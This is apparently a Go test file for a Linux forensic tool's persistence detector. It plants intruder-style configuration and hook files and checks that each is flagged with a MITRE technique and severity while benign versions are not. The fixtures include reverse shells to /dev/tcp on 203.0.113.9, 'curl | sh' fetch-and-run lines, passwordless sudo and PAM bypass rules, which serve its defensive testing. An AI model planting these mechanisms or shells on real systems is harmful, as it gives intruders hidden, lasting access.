package examine_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"telltale/artifact"
	artall "telltale/artifact/all"
	"telltale/detect"
	"telltale/detect/persistence"
	"telltale/examine"
)

// planted is one mechanism: a file that an intruder leaves, what is to be told of it, and a file at a like place as distributions and administrators have it.
type planted struct {
	mechanism, path, content string
	mode                     os.FileMode
	runs, as, attack         string
	level                    detect.Level
	goodPath, good           string // the same path where goodPath is empty
}

// plantings are the mechanisms that are judged, each with what is bad and what is not.
var plantings = []planted{
	{"at-job", "/var/spool/cron/atjobs/a00001", "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\ncd /root || {\n exit 1\n}\n/dev/shm/x\n", 0o700, "/dev/shm/x", "root", "T1053.002", detect.High, "", "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\n/usr/local/bin/backup\n"},
	{"systemd-generator", "/etc/systemd/system-generators/net", "#!/bin/sh\n/bin/true\n", 0o755, "/etc/systemd/system-generators/net", "root", "T1543.002", detect.Medium, "/etc/systemd/system/x.d/y", "#\n"},
	{"systemd-sleep", "/usr/lib/systemd/system-shutdown/x", "#!/bin/sh\ncp /dev/shm/x /usr/bin/x; /dev/shm/x\n", 0o755, "/dev/shm/x", "root", "T1543.002", detect.High, "/etc/systemd/system-sleep/x", "#!/bin/sh\nhdparm -B 254 /dev/sda\n"},
	{"systemd-unit", "/etc/systemd/system/ssh.service.d/a.conf", "[Service]\nExecStartPre=/tmp/x\n", 0o644, "/tmp/x", "root", "T1543.002", detect.High, "", "[Service]\nExecStartPre=/usr/sbin/sshd -t\n"},
	{"systemd-unit", "/home/amy/.config/systemd/user/a.service", "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'\n", 0o644, "/dev/tcp/", "amy", "T1543.002", detect.Critical, "", "[Service]\nExecStart=/usr/bin/syncthing\n"},
	{"init-script", "/etc/init.d/dbus-helper", "#!/bin/sh\ncase $1 in start) nohup /var/tmp/x >/dev/null 2>&1 & ;; esac\n", 0o755, "/var/tmp/x", "root", "T1037.004", detect.High, "", "#!/bin/sh\ncase $1 in start) /opt/app/bin/start ;; esac\n"},
	{"motd", "/etc/update-motd.d/99-x", "#!/bin/sh\n(curl -s http://203.0.113.9/x | bash) &\n", 0o755, "curl", "root", "T1546", detect.Critical, "", "#!/bin/sh\nuname -a\n"},
	{"network-hook", "/etc/NetworkManager/dispatcher.d/50-x", "#!/bin/sh\n/tmp/x &\n", 0o755, "/tmp/x", "root", "T1546", detect.High, "", "#!/bin/sh\nsystemctl restart ntp\n"},
	{"network-hook", "/etc/network/if-up.d/x", "#!/bin/sh\nbash -c 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1'\n", 0o755, "/dev/tcp/", "root", "T1546", detect.Critical, "", "#!/bin/sh\niptables-restore </etc/iptables.rules\n"},
	{"dhcp-hook", "/etc/dhcp/dhclient-exit-hooks.d/x", "/tmp/x &\n", 0o644, "/tmp/x", "root", "T1546", detect.High, "", "logger lease\n"},
	{"initramfs-hook", "/etc/initramfs-tools/scripts/init-bottom/x", "#!/bin/sh\nwget -qO- http://203.0.113.9/x | sh\n", 0o755, "wget", "root", "T1542", detect.Critical, "", "#!/bin/sh\nmanual_add_modules dm\n"},
	{"kernel-hook", "/etc/kernel/postinst.d/x", "#!/bin/sh\n/dev/shm/x\n", 0o755, "/dev/shm/x", "root", "T1546", detect.High, "", "#!/bin/sh\nupdate-grub\n"},
	{"bootloader-script", "/etc/grub.d/45_x", "#!/bin/sh\n/tmp/x\n", 0o755, "/tmp/x", "root", "T1542", detect.High, "", "#!/bin/sh\nexec tail -n +3 $0\n"},
	{"package-script", "/var/lib/dpkg/info/base-files.postinst", "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n", 0o755, "curl", "root", "T1546.016", detect.Critical, "", "#!/bin/sh\nset -e\ntmp=$(mktemp /tmp/x.XXXX)\n"},
	{"cloud-script", "/var/lib/cloud/scripts/per-boot/x", "#!/bin/sh\ncurl http://203.0.113.9/x | bash\n", 0o755, "curl", "root", "T1037", detect.Critical, "", "#!/bin/sh\necho up\n"},
	{"session-script", "/home/amy/.xprofile", "/tmp/.x/y &\n", 0o644, "/tmp/.x/y", "amy", "T1547.013", detect.High, "", "export QT_STYLE=x\n"},
	{"completion", "/etc/bash_completion.d/x", "/tmp/x &\n", 0o644, "/tmp/x", "root", "T1546.004", detect.High, "", "complete -F _x x\n"},
	{"git-hook", "/home/amy/site/.git/hooks/post-merge", "#!/bin/sh\n/dev/shm/x\n", 0o755, "/dev/shm/x", "amy", "T1546", detect.High, "", "#!/bin/sh\nnpm ci\n"},
	{"python-hook", "/usr/lib/python3/dist-packages/sitecustomize.py", "import os; os.system('curl http://203.0.113.9/x | sh')\n", 0o644, "curl", "root", "T1546.018", detect.Critical, "", "import sys\n"},
	{"sshd-setting", "/etc/ssh/sshd_config", "PermitEmptyPasswords yes\n", 0o644, "yes", "the account that logs in", "T1098.004", detect.Medium, "", "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\nSubsystem sftp internal-sftp\nPermitEmptyPasswords no\n"},
	{"sshd-setting", "/etc/ssh/sshd_config.d/a.conf", "AuthorizedKeysFile /dev/shm/k\n", 0o644, "/dev/shm/k", "the account that logs in", "T1098.004", detect.High, "", "AuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys\n"},
	{"ssh-setting", "/home/amy/.ssh/config", "Host *\nLocalCommand /tmp/x\n", 0o600, "/tmp/x", "amy", "T1546", detect.High, "", "Host *\nProxyCommand nc -X connect -x proxy:3128 %h %p\n"},
	{"trusted-host", "/root/.rhosts", "+ +\n", 0o600, "+ +", "root", "T1098", detect.High, "", "backup.example.org root\n"},
	{"pam-rule", "/etc/pam.d/sshd", "auth sufficient pam_permit.so\n", 0o644, "pam_permit.so", "root", "T1556.003", detect.High, "", "auth required pam_permit.so\nsession required pam_env.so\n"},
	{"pam-rule", "/etc/pam.d/common-auth", "auth optional pam_exec.so quiet expose_authtok /usr/share/x.sh\n", 0o644, "/usr/share/x.sh", "root", "T1556.003", detect.Medium, "", "auth [success=1 default=ignore] pam_unix.so nullok\n"},
	{"sudo-setting", "/etc/sudoers.d/a", "Defaults env_keep += LD_PRELOAD\n", 0o440, "LD_PRELOAD", "root", "T1548.003", detect.Medium, "", "Defaults env_keep += \"SSH_AUTH_SOCK\"\n"},
	{"sudoers", "/etc/sudoers.d/b", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0o440, "NOPASSWD: ALL", "www-data", "T1548.003", detect.Medium, "", "www-data ALL=(root) NOPASSWD: /usr/sbin/nginx -s reload\n"},
	{"doas-rule", "/etc/doas.conf", "permit nopass www-data\n", 0o644, "any command", "root", "T1548.003", detect.Medium, "", "permit persist amy\n"},
	{"polkit-rule", "/etc/polkit-1/rules.d/1.rules", "polkit.spawn([\"sh\", \"-c\", \"/tmp/x\"]); /tmp/x\n", 0o644, "/tmp/x", "polkitd", "T1548", detect.High, "", "return polkit.Result.YES;\n"},
	{"dbus-service", "/usr/share/dbus-1/system-services/a.service", "Name=a.b\nExec=/tmp/x\n", 0o644, "/tmp/x", "root", "T1543.002", detect.High, "", "Name=a.b\nExec=/usr/libexec/x\n"},
	{"kernel-helper", "/etc/sysctl.d/a.conf", "kernel.core_pattern=|/usr/share/x %p\n", 0o644, "/usr/share/x", "root", "T1546", detect.Medium, "", "kernel.core_pattern=|/usr/lib/systemd/systemd-coredump %P\nkernel.modprobe=/sbin/modprobe\n"},
	{"binary-format", "/etc/binfmt.d/a.conf", ":x:M::\\x7fELF::/usr/bin/i:C\n", 0o644, "/usr/bin/i", "the account that runs the file", "T1546", detect.Medium, "", ":qemu-arm:M::\\x7fELF::/usr/bin/qemu-arm-static:OC\n"},
	{"udev-rule", "/etc/udev/rules.d/a.rules", "SUBSYSTEM==\"net\", RUN+=\"/tmp/x\"\n", 0o644, "/tmp/x", "root", "T1546.017", detect.High, "", "KERNEL==\"sd*\", RUN+=\"/sbin/hdparm -B 254 /dev/%k\"\n"},
	{"modprobe-rule", "/etc/modprobe.d/a.conf", "install tcp_diag /usr/share/x\n", 0o644, "/usr/share/x", "root", "T1547.006", detect.Medium, "", "install cramfs /bin/false\ninstall x /sbin/modprobe -i x; /sbin/y\n"},
	{"boot-option", "/etc/default/grub", "GRUB_CMDLINE_LINUX=\"init=/usr/share/x\"\n", 0o644, "init=/usr/share/x", "the kernel", "T1542", detect.Medium, "", "GRUB_CMDLINE_LINUX=\"quiet init=/lib/systemd/systemd\"\n"},
	{"library-path", "/etc/ld.so.conf.d/a.conf", "/dev/shm/l\n", 0o644, "/dev/shm/l", "every user", "T1574.006", detect.High, "", "/opt/app/lib\n"},
	{"tmpfiles-rule", "/etc/tmpfiles.d/a.conf", "f /etc/cron.d/x 0644 root root - * * * * * root /tmp/x\n", 0o644, "/etc/cron.d/x", "root", "T1543.002", detect.Medium, "", "f /run/app.pid 0644 app app -\n"},
	{"sysusers-rule", "/etc/sysusers.d/a.conf", "u toor 0 - /root\n", 0o644, "toor", "toor", "T1136.001", detect.Medium, "", "u app 900 - /srv/app\n"},
	{"apt-hook", "/etc/apt/apt.conf.d/99", "APT::Update::Pre-Invoke {\"curl -s http://203.0.113.9/x | sh\";};\n", 0o644, "curl", "root", "T1546.016", detect.Critical, "", "DPkg::Post-Invoke {\"rm -f /var/cache/apt/archives/*.deb || true\";};\n"},
	{"interface-hook", "/etc/network/interfaces", "iface eth0 inet dhcp\n post-up /tmp/x &\n", 0o644, "/tmp/x", "root", "T1546", detect.High, "", "iface eth0 inet dhcp\n post-up ip route add 192.0.2.0/24 via 192.0.2.1\n"},
	{"environment", "/etc/environment", "LD_PRELOAD=/usr/lib/libx.so\n", 0o644, "/usr/lib/libx.so", "everybody who logs in", "T1574.006", detect.Medium, "", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n"},
	{"php-user-ini", "/var/www/html/.user.ini", "auto_prepend_file=logo.gif\n", 0o644, "logo.gif", "the web server's account", "T1505.003", detect.High, "", "auto_prepend_file='/var/www/html/wordfence-waf.php'\n"},
	{"php-setting", "/etc/php/8.2/fpm/php.ini", "extension=/tmp/x.so\n", 0o644, "/tmp/x.so", "the web server's account", "T1505.003", detect.High, "", "extension=mbstring\n"},
	{"web-handler", "/var/www/html/up/.htaccess", "AddType application/x-httpd-php .jpg\n", 0o644, ".jpg", "the web server's account", "T1505.003", detect.High, "", "AddHandler application/x-httpd-php82 .php\n"},
	{"web-module", "/etc/apache2/mods-enabled/x.load", "LoadModule x_module /dev/shm/x.so\n", 0o644, "/dev/shm/x.so", "root, then the web server's account", "T1505.004", detect.High, "", "LoadModule rewrite_module /usr/lib/apache2/modules/mod_rewrite.so\n"},
	{"python-path", "/usr/lib/python3/dist-packages/x.pth", "import subprocess; subprocess.Popen(['x'])\n", 0o644, "subprocess", "whoever runs Python", "T1546.018", detect.High, "", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack')\n"},
	{"git-setting", "/home/amy/site/.git/config", "[core]\nfsmonitor = /tmp/x\n", 0o644, "/tmp/x", "amy", "T1546", detect.High, "", "[filter \"lfs\"]\nclean = git-lfs clean -- %f\n[core]\npager = less\n"},
	{"desktop-entry", "/home/amy/.config/autostart/a.desktop", "[Desktop Entry]\nExec=/tmp/x\n", 0o644, "/tmp/x", "amy", "T1547.013", detect.High, "", "[Desktop Entry]\nExec=nextcloud --background\n"},
	{"database-setting", "/etc/redis/redis.conf", "loadmodule /tmp/m.so\n", 0o644, "/tmp/m.so", "the database's account", "T1505.001", detect.High, "", "loadmodule /usr/lib/redis/redisearch.so\n"},
	{"inetd-service", "/etc/inetd.conf", "fido stream tcp nowait root /bin/sh sh -i\n", 0o644, "/bin/sh -i", "root", "T1543", detect.High, "", "ftp stream tcp nowait root /usr/sbin/tcpd in.ftpd\n"},
	{"xinetd-service", "/etc/xinetd.d/a", "service a\n{\nuser = root\nserver = /bin/bash\n}\n", 0o644, "/bin/bash", "root", "T1543", detect.High, "", "service tftp\n{\nserver = /usr/sbin/in.tftpd\n}\n"},
	{"tcp-wrapper", "/etc/hosts.allow", "sshd: ALL: spawn /tmp/x &\n", 0o644, "/tmp/x", "root", "T1546", detect.High, "", "sshd: 192.0.2.\nALL: PARANOID\n"},
	{"supervised-program", "/etc/supervisor/conf.d/a.conf", "[program:x]\ncommand=/tmp/x\n", 0o644, "/tmp/x", "root", "T1543", detect.High, "", "[program:x]\ncommand=/srv/app/venv/bin/celery\n"},
	{"container-unit", "/etc/containers/systemd/a.container", "[Container]\nVolume=/:/host\n", 0o644, "/:/host", "root", "T1543.005", detect.Medium, "", "[Container]\nImage=docker.io/nginx\nVolume=/srv/data:/data\n"},
	{"lxc-hook", "/var/lib/lxc/a/config", "lxc.hook.start-host = /tmp/x\n", 0o644, "/tmp/x", "root", "T1543.005", detect.High, "", "lxc.hook.mount = /usr/share/lxcfs/lxc.mount.hook\n"},
	{"mail-pipe", "/etc/postfix/master.cf", "x unix - n n - - pipe\n  user=bob argv=/tmp/x\n", 0o644, "/tmp/x", "bob", "T1546", detect.High, "", "maildrop unix - n n - - pipe\n  user=vmail argv=/usr/bin/maildrop -d ${recipient}\n"},
	{"mail-alias", "/etc/aliases", "x: \"|/tmp/x\"\n", 0o644, "/tmp/x", "root", "T1546", detect.High, "", "list: \"|/var/lib/mailman/mail/mailman post list\"\nroot: amy\n"},
	{"samba-command", "/etc/samba/smb.conf", "[pub]\nroot preexec = /tmp/x\n", 0o644, "/tmp/x", "root", "T1546", detect.High, "", "[global]\npanic action = /usr/share/samba/panic-action %d\n"},
	{"log-program", "/etc/rsyslog.d/a.conf", "action(type=\"omprog\" binary=\"/tmp/x\")\n", 0o644, "/tmp/x", "root", "T1546", detect.High, "", "action(type=\"omprog\" binary=\"/usr/bin/log-to-db\")\n"},
	{"logrotate-script", "/etc/logrotate.d/a", "/var/log/a {\npostrotate\n/tmp/x\nendscript\n}\n", 0o644, "/tmp/x", "root", "T1546", detect.High, "", "/var/log/a {\npostrotate\n[ -f /run/a.pid ] && kill -USR1 `cat /run/a.pid`\nendscript\n}\n"},
	{"monitor-command", "/etc/zabbix/zabbix_agentd.conf", "UserParameter=a,/tmp/x\n", 0o644, "/tmp/x", "the agent's account", "T1546", detect.High, "", "UserParameter=mysql.ping,mysqladmin ping | grep -c alive\n"},
	{"startup-file", "/home/amy/.bashrc", "alias sudo='/home/amy/.local/.s'\n", 0o644, "alias sudo", "amy", "T1546.004", detect.Medium, "", "alias sudo='sudo '\nalias ls='ls --color=auto'\n"},
	{"startup-file", "/etc/profile.d/a.sh", "export LD_PRELOAD=/usr/lib/libx.so\n", 0o644, "LD_PRELOAD", "everybody who logs in", "T1546.004", detect.Medium, "", "export EDITOR=vim\n"},
	{"environment", "/home/amy/.pam_environment", "LD_PRELOAD DEFAULT=/dev/shm/x.so\n", 0o644, "/dev/shm/x.so", "amy", "T1574.006", detect.High, "", "JAVA_TOOL_OPTIONS=-Djava.io.tmpdir=/var/tmp/j -XX:HeapDumpPath=/tmp/d\n"},
	{"database-setting", "/etc/postgresql/15/main/postgresql.conf", "archive_command = '/dev/shm/x %p'\n", 0o644, "/dev/shm/x", "the database's account", "T1505.001", detect.High, "", "archive_command = 'test ! -f /tmp/a/%f && cp %p /tmp/a/%f'\n"},
	{"startup-file", "/etc/zsh/zshenv", "/tmp/x &\n", 0o644, "/tmp/x", "everybody who logs in", "T1546.004", detect.High, "", "setopt x\n"},
}

func leave(t *testing.T, dir, name, content string, mode os.FileMode) {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
}

// judged gives what persistence finds in a tree.
func judged(t *testing.T, dir string) (found []detect.Finding) {
	t.Helper()
	leave(t, dir, "/etc/passwd", "root:x:0:0::/root:/bin/bash\namy:x:1000:1000::/home/amy:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n", 0o644)
	leave(t, dir, "/etc/os-release", "ID=debian\n", 0o644)
	leave(t, dir, "/var/lib/dpkg/status", "Package: base-files\nStatus: install ok installed\nArchitecture: amd64\nVersion: 12\n\n", 0o644)
	spy := *persistence.New()
	made := spy.New
	spy.New = func(s detect.Scene) detect.Fold { return &keeper{made(s), &found} }
	var state []*artifact.Artifact
	for _, a := range artall.Artifacts() {
		if !a.Log {
			state = append(state, a)
		}
	}
	if _, err := examine.Run(t.Context(), examine.Options{Evidence: []string{dir}, Spool: t.TempDir(), Artifacts: state, Detections: []*detect.Detection{&spy}}); err != nil {
		t.Fatal(err)
	}
	return found
}

// TestPlanted holds each mechanism against what an intruder leaves there.
func TestPlanted(t *testing.T) {
	dir := t.TempDir()
	for _, p := range plantings {
		leave(t, dir, p.path, p.content, p.mode)
	}
	found := judged(t, dir)
	for _, p := range plantings {
		t.Run(p.mechanism+p.path, func(t *testing.T) {
			var of []string
			for _, f := range found {
				if f.Path != p.path {
					continue
				}
				if f.Mechanism == p.mechanism && strings.Contains(f.Runs, p.runs) && f.As == p.as && len(f.Attack) == 1 && f.Attack[0] == p.attack && f.Level == p.level && f.First.Known() {
					return
				}
				of = append(of, f.Level.String()+" "+f.Mechanism+" runs "+f.Runs+" as "+f.As+" "+strings.Join(f.Attack, " ")+": "+f.Detail)
			}
			t.Errorf("not found as planted, but: %s", strings.Join(of, "\n"))
		})
	}
}

// TestOrdinary holds each mechanism against what distributions and administrators have there.
func TestOrdinary(t *testing.T) {
	dir := t.TempDir()
	for _, p := range plantings {
		where := p.path
		if p.goodPath != "" {
			where = p.goodPath
		}
		leave(t, dir, where, p.good, p.mode)
	}
	for _, f := range judged(t, dir) {
		if f.Level > detect.Info {
			t.Errorf("%s %s in %s runs %s as %s: %s", f.Level, f.Mechanism, f.Path, f.Runs, f.As, f.Detail)
		}
	}
}
